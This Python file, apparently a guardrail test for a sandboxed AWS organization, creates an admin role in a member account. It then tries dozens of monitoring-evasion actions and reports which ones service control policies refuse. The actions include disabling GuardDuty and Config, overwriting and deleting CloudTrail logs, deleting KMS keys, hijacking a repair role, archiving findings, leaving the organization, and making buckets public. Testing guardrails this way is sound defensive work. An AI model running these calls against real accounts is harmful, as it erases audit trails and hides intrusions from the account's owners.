"""Does in an account what its administrator would do to blind whoever watches it, one way after the other.

usage: attack.py ACCOUNT [changes|removes|root]

The administrator is a role of the account that the access role makes, as nobody minds. Each way is told as done or refused.
`changes` leaves out those that take away what others change, `removes` tries those alone; neither leaves the organization.
`root` tries what a session of the account's root user can do, which the management account opens.
"""

import json
import re
import sys

import boto3
import botocore.exceptions
import world

NAME = "Administrator"
EVIL = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
HOME = "eu-west-1"
REMOVES, LEAVES = "removes", "leaves"
# The sandbox's time goes faster than ours.
HOURS = 12 * 3600
TOPIC = json.dumps({"Resources": {"Topic": {"Type": "AWS::SNS::Topic"}}})


def trust(account):
    principal = {"AWS": f"arn:aws:iam::{account}:root"}
    statement = {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def administrator(account):
    """A session of an administrator of the account, who is made first."""
    iam = world.client("iam", account=account)
    management = boto3.client("sts", region_name=HOME).get_caller_identity()["Account"]
    try:
        iam.create_role(
            RoleName=NAME, AssumeRolePolicyDocument=trust(management), MaxSessionDuration=HOURS
        )
        iam.put_role_policy(RoleName=NAME, PolicyName="all", PolicyDocument=EVIL)
    except iam.exceptions.EntityAlreadyExistsException:
        pass
    return session(account)


def session(account):
    sts = boto3.client("sts", region_name=HOME, config=world.CONFIG)
    taken = sts.assume_role(RoleArn=f"arn:aws:iam::{account}:role/{NAME}", RoleSessionName="admin", DurationSeconds=HOURS)
    keys = taken["Credentials"]
    return boto3.Session(
        aws_access_key_id=keys["AccessKeyId"],
        aws_secret_access_key=keys["SecretAccessKey"],
        aws_session_token=keys["SessionToken"],
        region_name=HOME,
    )


def ways(name, account, session):
    """What is tried: in words, the call, and whether it takes away what others of these change."""
    iam, sts = session.client("iam"), session.client("sts")
    role = f"arn:aws:iam::{account}:role/orgstrap-exec"
    yield "take the repairing role", lambda: sts.assume_role(RoleArn=role, RoleSessionName="taken")
    yield "have the repairing role trust this account", lambda: iam.update_assume_role_policy(
        RoleName="orgstrap-exec", PolicyDocument=trust(account)
    )
    yield "give the repairing role more", lambda: iam.put_role_policy(
        RoleName="orgstrap-exec", PolicyName="more", PolicyDocument=EVIL
    )
    yield "bind the repairing role", lambda: iam.put_role_permissions_boundary(
        RoleName="orgstrap-exec", PermissionsBoundary="arn:aws:iam::aws:policy/ReadOnlyAccess"
    )
    yield "make a role that looks like StackSets' own", lambda: iam.create_role(
        RoleName="stacksets-exec-0123456789abcdef0123456789abcdef",
        AssumeRolePolicyDocument=trust(account),
    )
    yield from passes(account, session, role)
    yield from policies(account, iam)
    yield from documents(account, session, role)
    yield from watching(account, session)
    if name == "log-archive":
        yield from logs(account, session)
    if name == "security":
        yield from settings(account, session)
    yield from stacks(session)


def passes(account, session, role):
    """Ways to have a service work as the repairing role."""
    iam, ssm = session.client("iam"), session.client("ssm")
    cloudformation = session.client("cloudformation")
    yield "run a machine as the repairing role", lambda: iam.add_role_to_instance_profile(
        InstanceProfileName="mine", RoleName="orgstrap-exec"
    )
    yield "run a stack as the repairing role", lambda: cloudformation.create_stack(
        StackName="mine", TemplateBody=TOPIC, RoleARN=role
    )
    yield "run an automation as the repairing role", lambda: ssm.start_automation_execution(
        DocumentName="orgstrap-ec2-defaults", Parameters={"AutomationAssumeRole": [role]}
    )


def policies(account, iam):
    """Ways to other rights of exempt roles: by the managed policies that give them theirs."""
    policy = f"arn:aws:iam::{account}:policy/orgstrap-repairs"
    others = f"arn:aws:iam::{account}:policy/orgstrap-reads"
    yield "make a policy of a name that is orgstrap's", lambda: iam.create_policy(
        PolicyName="orgstrap-reads-organization", PolicyDocument=EVIL
    )
    yield "give the repairing role's policy another version", lambda: iam.create_policy_version(
        PolicyArn=policy, PolicyDocument=EVIL, SetAsDefault=True
    )
    yield "keep another version of the reading role's ready", lambda: iam.create_policy_version(
        PolicyArn=others, PolicyDocument=EVIL, SetAsDefault=False
    )
    yield "make it the one that holds", lambda: iam.set_default_policy_version(
        PolicyArn=others, VersionId="v2"
    )
    yield "delete the version before", lambda: iam.delete_policy_version(
        PolicyArn=others, VersionId="v1"
    )
    yield "take the rights from the repairing role", lambda: iam.detach_role_policy(
        RoleName="orgstrap-exec", PolicyArn=policy
    ), REMOVES
    yield "delete its policy", lambda: iam.delete_policy(PolicyArn=policy), REMOVES


def documents(account, session, role):
    """Ways to have a script of one's own run by the document of ec2-defaults."""
    ssm = session.client("ssm")
    script = json.dumps({"schemaVersion": "0.3", "mainSteps": []})
    yield "put another script into the document", lambda: ssm.update_document(
        Name="orgstrap-ec2-defaults", Content=script, DocumentVersion="$LATEST"
    )
    yield "make it the one that runs", lambda: ssm.update_document_default_version(
        Name="orgstrap-ec2-defaults", DocumentVersion="2"
    )
    yield "share the document", lambda: ssm.modify_document_permission(
        Name="orgstrap-ec2-defaults", PermissionType="Share", AccountIdsToAdd=["all"]
    )
    yield "run it on a schedule of one's own", lambda: ssm.create_association(
        Name="orgstrap-ec2-defaults", AssociationName="mine"
    )
    yield "delete the document", lambda: ssm.delete_document(Name="orgstrap-ec2-defaults"), REMOVES


def watching(account, session):
    """What every account has: a recorder, a detector, and what keeps it in the organization."""
    config, guardduty = session.client("config"), session.client("guardduty")
    recorder = f"arn:aws:config:{{}}:{account}:configuration-recorder/default"
    elsewhere = session.client("config", region_name="us-east-1")
    detector = (guardduty.list_detectors()["DetectorIds"] or ["none"])[0]
    yield "record less", lambda: elsewhere.disassociate_resource_types(
        ConfigurationRecorderArn=recorder.format("us-east-1"), ResourceTypes=["AWS::EC2::Instance"]
    )
    linked = f"arn:aws:iam::{account}:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig"
    yield "record one thing only", lambda: elsewhere.put_configuration_recorder(
        ConfigurationRecorder={
            "name": "default",
            "roleARN": linked,
            "recordingGroup": {"resourceTypes": ["AWS::EC2::Instance"]},
        }
    )
    yield "record other things", lambda: elsewhere.associate_resource_types(
        ConfigurationRecorderArn=recorder.format("us-east-1"), ResourceTypes=["AWS::IAM::User"]
    )
    yield "delete a service's recorder", lambda: config.delete_service_linked_configuration_recorder(
        ServicePrincipal="securityhub.amazonaws.com"
    )
    yield "deliver elsewhere", lambda: config.put_delivery_channel(
        DeliveryChannel={"name": "default", "s3BucketName": f"mine-{account}"}
    )
    yield "forget what was recorded", lambda: config.put_retention_configuration(
        RetentionPeriodInDays=30
    )
    yield "stop the recorder", lambda: config.stop_configuration_recorder(
        ConfigurationRecorderName="default"
    )
    yield "delete the recorder", lambda: config.delete_configuration_recorder(
        ConfigurationRecorderName="default"
    ), REMOVES
    yield "scan for malware less", lambda: guardduty.update_malware_scan_settings(
        DetectorId=detector, EbsSnapshotPreservation="NO_RETENTION"
    )
    yield "turn GuardDuty off", lambda: guardduty.update_detector(DetectorId=detector, Enable=False)
    yield "be watched by somebody else", lambda: guardduty.accept_administrator_invitation(
        DetectorId=detector, AdministratorId="999999999999", InvitationId="0" * 32
    )
    cloudtrail = session.client("cloudtrail")
    yield "have the trail tell other things", lambda: cloudtrail.put_event_configuration(
        TrailName="orgstrap-organization",
        MaxEventSize="Standard",
        ContextKeySelectors=[],
    )
    yield "turn a Region off", lambda: session.client("account").disable_region(
        RegionName="ap-southeast-3"
    ), LEAVES
    yield "leave the organization", lambda: session.client(
        "organizations", region_name="us-east-1"
    ).leave_organization(), LEAVES


def stacks(session):
    cloudformation = session.client("cloudformation")
    for stack in sorted(s["StackName"] for s in cloudformation.describe_stacks()["Stacks"]):
        if "orgstrap-" in stack:
            told = re.sub("-[0-9a-f]{8}-.*", "", stack)
            yield f"update the stack {told}", lambda stack=stack: cloudformation.update_stack(
                StackName=stack, TemplateBody=TOPIC
            ), LEAVES
            yield f"delete the stack {told}", lambda stack=stack: cloudformation.delete_stack(
                StackName=stack
            ), REMOVES


def logs(account, session):
    s3, kms = session.client("s3"), session.client("kms")
    bucket = f"orgstrap-cloudtrail-{account}-{HOME}"
    others = f"orgstrap-config-{account}-{HOME}"
    log = {"Bucket": bucket, "Key": "AWSLogs/o-1/log.json.gz"}
    mine = f"arn:aws:kms:{HOME}:{account}:key/00000000-0000-0000-0000-000000000000"
    yield "write over a log", lambda: s3.put_object(**log, Body=b"nothing happened")
    yield "delete a log", lambda: s3.delete_object(**log)
    yield "delete a log's version", lambda: s3.delete_object(**log, VersionId="1")
    yield "encrypt a log with another key", lambda: s3.update_object_encryption(
        **log, ObjectEncryption={"SSEKMS": {"KMSKeyArn": mine}}
    )
    yield "keep a log no longer", lambda: s3.put_object_retention(
        **log,
        Retention={"Mode": "GOVERNANCE", "RetainUntilDate": "2026-01-01"},
        BypassGovernanceRetention=True,
    )
    yield "replicate over the logs", lambda: s3.put_bucket_replication(
        Bucket=bucket,
        ReplicationConfiguration={
            "Role": f"arn:aws:iam::{account}:role/Replicates",
            "Rules": [{"Status": "Enabled", "Destination": {"Bucket": f"arn:aws:s3:::{others}"}}],
        },
    )
    yield "expire the logs", lambda: s3.put_bucket_lifecycle_configuration(
        Bucket=bucket,
        LifecycleConfiguration={
            "Rules": [{"ID": "x", "Status": "Enabled", "Filter": {}, "Expiration": {"Days": 1}}]
        },
    )
    yield "encrypt what comes with another key", lambda: s3.put_bucket_encryption(
        Bucket=others,
        ServerSideEncryptionConfiguration={
            "Rules": [
                {
                    "ApplyServerSideEncryptionByDefault": {
                        "SSEAlgorithm": "aws:kms",
                        "KMSMasterKeyID": mine,
                    }
                }
            ]
        },
    )
    yield "keep no versions", lambda: s3.put_bucket_versioning(
        Bucket=bucket, VersioningConfiguration={"Status": "Suspended"}
    )
    yield "keep the trail out", lambda: s3.delete_bucket_policy(Bucket=bucket)
    mine_for = {key["TargetKeyId"]: key["AliasName"] for key in kms.list_aliases()["Aliases"]}
    keys = sorted(key["KeyId"] for key in kms.list_keys()["Keys"])
    key = next((k for k in keys if "cloudtrail" in mine_for.get(k, "")), keys[0])
    findings = next((k for k in keys if k != key), key)
    yield "grant the key to oneself", lambda: kms.create_grant(
        KeyId=key, GranteePrincipal=f"arn:aws:iam::{account}:root", Operations=["Decrypt"]
    )
    yield "have the key elsewhere too", lambda: kms.replicate_key(
        KeyId=key, ReplicaRegion="us-east-1"
    )
    yield "bring material of one's own", lambda: kms.delete_imported_key_material(KeyId=key)
    yield "rotate the key no longer", lambda: kms.disable_key_rotation(KeyId=findings)
    yield "open the key", lambda: kms.put_key_policy(KeyId=key, PolicyName="default", Policy=EVIL)
    yield "have the key's name be another's", lambda: kms.update_alias(
        AliasName="alias/orgstrap/guardduty", TargetKeyId=key
    )
    yield "take the tag from the key", lambda: kms.untag_resource(
        KeyId=key, TagKeys=["orgstrap:managed"]
    )
    yield "take the key's name", lambda: kms.delete_alias(AliasName="alias/orgstrap/cloudtrail")
    yield "have the key deleted", lambda: kms.schedule_key_deletion(
        KeyId=key, PendingWindowInDays=7
    ), REMOVES


def settings(account, session):
    config, guardduty = session.client("config"), session.client("guardduty")
    detector = (guardduty.list_detectors()["DetectorIds"] or ["none"])[0]
    members = guardduty.list_members(DetectorId=detector)["Members"]
    some = [members[0]["AccountId"]] if members else ["111111111111"]
    yield "leave new accounts out", lambda: guardduty.update_organization_configuration(
        DetectorId=detector, AutoEnableOrganizationMembers="NONE"
    )
    yield "turn a feature off in members", lambda: guardduty.update_member_detectors(
        DetectorId=detector,
        AccountIds=some,
        Features=[{"Name": "S3_DATA_EVENTS", "Status": "DISABLED"}],
    )
    yield "watch a member no longer", lambda: guardduty.stop_monitoring_members(
        DetectorId=detector, AccountIds=some
    )
    yield "let a member go", lambda: guardduty.disassociate_members(
        DetectorId=detector, AccountIds=some
    ), REMOVES
    yield "take a member out of administration", lambda: guardduty.delete_members(
        DetectorId=detector, AccountIds=some
    ), REMOVES
    yield "archive what is found", lambda: guardduty.create_filter(
        DetectorId=detector,
        Name="quiet",
        Action="ARCHIVE",
        FindingCriteria={"Criterion": {"severity": {"GreaterThanOrEqual": 1}}},
    )
    yield "archive it by another filter", lambda: guardduty.update_filter(
        DetectorId=detector, FilterName="quiet", Action="ARCHIVE"
    )
    yield "archive what was found", lambda: guardduty.archive_findings(
        DetectorId=detector, FindingIds=["0" * 32]
    )
    yield "trust addresses", lambda: guardduty.create_ip_set(
        DetectorId=detector,
        Name="ours",
        Format="TXT",
        Location=f"s3://mine-{account}/trusted.txt",
        Activate=True,
    )
    yield "trust names", lambda: guardduty.create_trusted_entity_set(
        DetectorId=detector,
        Name="ours too",
        Format="TXT",
        Location=f"s3://mine-{account}/trusted.txt",
        Activate=True,
    )
    exports = guardduty.list_publishing_destinations(DetectorId=detector)["Destinations"]
    export = exports[0]["DestinationId"] if exports else "none"
    yield "stop the export", lambda: guardduty.delete_publishing_destination(
        DetectorId=detector, DestinationId=export
    )
    yield "aggregate this account alone", lambda: config.put_configuration_aggregator(
        ConfigurationAggregatorName="orgstrap-organization",
        AccountAggregationSources=[{"AccountIds": [account], "AllAwsRegions": True}],
    )


def root_user(account):
    """What the privileged tasks on buckets do, opened for the account by centralized root access."""
    organizations, iam = world.client("organizations"), world.client("iam")
    organizations.enable_aws_service_access(ServicePrincipal="iam.amazonaws.com")
    iam.enable_organizations_root_sessions()
    task = {
        "TargetPrincipal": account,
        "TaskPolicyArn": {"arn": "arn:aws:iam::aws:policy/root-task/S3UnlockBucketPolicy"},
    }
    own = administrator(account)
    mine = own.client("s3")
    mine.create_bucket(
        Bucket=f"mine-{account}", CreateBucketConfiguration={"LocationConstraint": HOME}
    )
    yield "open such a session oneself", lambda: own.client("sts").assume_root(**task)
    keys = world.client("sts", HOME).assume_root(**task)["Credentials"]
    s3 = boto3.client(
        "s3",
        region_name=HOME,
        aws_access_key_id=keys["AccessKeyId"],
        aws_secret_access_key=keys["SecretAccessKey"],
        aws_session_token=keys["SessionToken"],
    )
    for bucket in sorted(one["Name"] for one in s3.list_buckets()["Buckets"]):
        told = bucket.replace(account, "ACCOUNT")
        policy = json.loads(EVIL)
        policy["Statement"][0] |= {"Principal": "*", "Resource": f"arn:aws:s3:::{bucket}/*"}
        yield f"open {told}", lambda bucket=bucket, policy=policy: s3.put_bucket_policy(
            Bucket=bucket, Policy=json.dumps(policy)
        )
        yield f"keep AWS out of {told}", lambda bucket=bucket: s3.delete_bucket_policy(
            Bucket=bucket
        )
    yield "delete what is no policy", lambda: s3.delete_bucket(Bucket=f"mine-{account}")
    mine.delete_bucket(Bucket=f"mine-{account}")
    organizations.disable_aws_service_access(ServicePrincipal="iam.amazonaws.com")


def main(name, tried="all"):
    account = world.accounts()[name]
    tries = root_user(account) if tried == "root" else ways(name, account, administrator(account))
    for told, act, *kind in tries:
        if tried not in ("all", "root", *(kind or ["changes"])):
            continue
        try:
            act()
            print(f"{told}: done")
        except botocore.exceptions.ClientError as error:
            message = error.response["Error"]["Message"]
            if "explicit deny in a service control policy" in message:
                print(f"{told}: refused")
            else:
                print(f"{told}: {error.response['Error']['Code']}")


if __name__ == "__main__":
    main(*sys.argv[1:])
